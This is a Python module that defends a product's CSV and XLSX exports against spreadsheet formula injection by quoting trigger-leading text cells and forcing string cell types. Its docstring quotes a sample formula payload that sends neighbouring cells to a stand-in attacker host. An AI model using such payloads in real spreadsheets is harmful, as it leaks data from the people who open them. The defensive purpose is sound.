"""Every CSV and XLSX the product writes is inert: no cell can become a formula in the spreadsheet that opens it.

Why: a customer name, a memo or a worker label is typed by staff, a customer or a write token, and a bookkeeper
opens the month's export in Excel or LibreOffice. A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return is read there as a formula (`=HYPERLINK("http://evil.example/?x="&B2,"invoice")` sends the neighbouring
cells to another host when clicked). OWASP's rule is applied once, here: such a text cell gets a leading single
quote, so the spreadsheet shows it as text; a cell that is a number (`-5`, `-0.00000123`, `+1e3`) stays a number.
XLSX text cells are also typed as strings, never formulas, whatever they hold.

It lives in the bottom app (`tenants`) because every app writes spreadsheets and imports only point down.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_SIGNED = ("+", "-")
# A plain decimal number, as a spreadsheet reads one: optional sign, digits with an optional fraction, optional
# exponent. Nothing else that starts with + or - is left alone ("-1+2", "-A1", "+cmd|..." are neutralised).
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_safe(value: Any) -> Any:
    """The value as a spreadsheet must receive it: dangerous text prefixed with `'`, everything else unchanged."""
    if not isinstance(value, str) or not value.startswith(_TRIGGERS):
        return value
    if value.startswith(_SIGNED) and _NUMBER.fullmatch(value):
        return value
    return "'" + value


def spreadsheet_row(values: Iterable[Any]) -> list[Any]:
    return [spreadsheet_safe(v) for v in values]


class SafeCsvWriter:
    """`csv.writer` whose every row passes through `spreadsheet_safe` (header rows too: one path, no exceptions)."""

    def __init__(self, fh: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(fh, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(spreadsheet_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_csv_writer(fh: Any, **kwargs: Any) -> SafeCsvWriter:
    return SafeCsvWriter(fh, **kwargs)


def xlsx_cell(ws: Any, value: Any, *, number_format: str | None = None) -> Any:
    """A write-only openpyxl cell: text neutralised and typed `s` (a string, never a formula); numbers stay numbers.

    openpyxl types any string that starts with `=` as a formula (`<f>`); typing it ourselves closes that door even
    if a future caller forgets to neutralise.
    """
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(ws, value=spreadsheet_safe(value))
    if isinstance(value, str):
        cell.data_type = "s"
    if number_format is not None:
        cell.number_format = number_format
    return cell


def xlsx_row(ws: Any, values: Iterable[Any]) -> list[Any]:
    """A row for `ws.append`: each value through `xlsx_cell` (already built cells and empty cells pass through)."""
    from openpyxl.cell.cell import Cell

    return [v if v is None or isinstance(v, Cell) else xlsx_cell(ws, v) for v in values]
